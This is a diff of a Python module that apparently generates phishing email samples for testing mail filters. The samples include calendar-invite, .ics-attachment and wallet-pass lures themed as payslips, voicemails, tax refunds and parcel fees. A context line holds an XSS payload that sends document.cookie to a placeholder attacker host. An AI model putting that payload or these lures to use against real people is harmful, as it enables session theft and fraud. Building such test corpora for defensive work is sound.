@@ -111,16 +111,6 @@ XSS = ["<img src=x onerror=fetch('https://{badhost}/c?'+document.cookie)>", "\">
 # --- 50 ---------------------------------------------------------------------------------------------------------------
 
 
-def bare(m):
-    m.body, m.html, m.with_html = "", None, False
-    old = m.notice
-
-    def notice(x):
-        old(x)
-        x.plain_body, x.html_body = "", None
-    m.notice = notice
-
-
 def named(pattern):
     return lambda m: setattr(m, "file_name", pattern.replace("{r}", M.token(m.r, 5, "ABCDEFGHJKLMabcdefghijk23456789")).replace("{l}", m.rcpt.local))
 
@@ -298,9 +288,9 @@ FAMILIES = [
     tuned(49, "twocalendars", attacks=[49], by="kit-python kit-node", sender="junk", do=two_calendars, summary=["Team lunch", "Planning"], text=["Nice place near the station.", "Short one."]),
     tuned(49, "bodydiffers", attacks=[49, 35], by="kit-php m365", sender="tenant", body=["Hi {first},\n\nhere is the invitation for the reading circle.\n\nSee you", "Training next week, as agreed."], do=lambda m: setattr(m, "html", "<html><body><p>%s</p></body></html>" % m.body), **use("fakeinvoice")),
     # 50
-    tuned(50, "meetingfile", attacks=[50, 34], by="kit-php kit-python", sender="junk", do=[bare, named("meeting_{r}.ics"), S.set_(tree="file")], **use("payslip")),
-    tuned(50, "victimfile", attacks=[50, 34], by="kit-node kit-php", sender="vps", do=[bare, named("{l}.ics"), S.set_(tree="file")], **use("voicemail")),
-    tuned(50, "calendaronly", attacks=[50, 39], by="kit-python yahoo", sender="freemail", do=[bare, S.set_(tree="calendar", cal_cte="base64")], **use("callpc")),
+    tuned(50, "meetingfile", attacks=[50, 34], by="kit-php kit-python", sender="junk", do=[X.bare, named("meeting_{r}.ics"), S.set_(tree="file")], **use("payslip")),
+    tuned(50, "victimfile", attacks=[50, 34], by="kit-node kit-php", sender="vps", do=[X.bare, named("{l}.ics"), S.set_(tree="file")], **use("voicemail")),
+    tuned(50, "calendaronly", attacks=[50, 39], by="kit-python yahoo", sender="freemail", do=[X.bare, S.set_(tree="calendar", cal_cte="base64")], **use("callpc")),
     # 51
     tuned(51, "passticket", attacks=[51, 34], by="kit-python m365", sender="tenant", do=with_pass("Show this pass to receive your refund."), **use("taxrefund")),
     tuned(51, "passparcel", attacks=[51, 34], by="kit-php kit-node", sender="junk", do=with_pass("Colis {order}, frais {small}"), **use("colisfr")),
